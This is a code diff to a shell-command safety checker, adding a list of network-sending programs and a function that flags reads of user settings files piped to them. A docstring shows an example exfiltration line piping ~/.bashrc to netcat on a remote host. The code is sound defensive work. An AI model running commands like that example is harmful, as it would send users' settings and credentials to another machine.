@@ -688,6 +688,25 @@ _SIGNING_KEY = lazy_compile(r"(?i)\s*signingkey\s*=")
 _SETTINGS_READ_LIMIT = 256_000
 
 
+# Programs that send what they read to another machine.
+_NETWORK_SENDERS = frozenset({
+    "curl", "wget", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp",
+    "rsync", "openssl", "mail", "mailx", "sendmail", "mutt", "aws", "gsutil", "rclone", "gh", "base64",
+})  # fmt: skip
+
+
+def _sent_away(cmd: Cmd, cmds: list[Cmd]) -> bool:
+    """Whether what ``cmd`` prints is piped on to a program that sends it elsewhere (or encodes
+    it first): ``cat ~/.bashrc | nc host 9000``; such a read is not judged by content."""
+    current: Cmd | None = cmd
+    while current is not None:
+        current = next((c for c in cmds if c.prev is current), None)
+        # An unnamed stage is one the parser could not name (ssh host '…' runs its words there).
+        if current is not None and (current.name in _NETWORK_SENDERS or not current.name or current.ctx.remote):
+            return True
+    return False
+
+
 def _settings_may_hold_credentials(path: str) -> bool:
     """Whether the settings file at ``path`` (read as the command would read it, symbolic links
     followed) holds anything credential-like. A file that does not exist or cannot be read shows
@@ -1479,7 +1498,7 @@ def check_bash(command: str, ctx: _shell.Ctx) -> list[Finding]:
                 if _whole_settings_read(cmd, word, path, cmds) and bool(known):
                     # cat ~/.gitconfig, tail -20 ~/.bashrc: the user's own settings, judged by what
                     # the file holds: nothing credential-like (or no file) shows nothing secret.
-                    if _settings_may_hold_credentials(path):
+                    if _sent_away(cmd, cmds) or _settings_may_hold_credentials(path):
                         found.append(("ask", _settings_read_reason(f"`{cmd.display}`")))
                     continue
                 if path is not None:
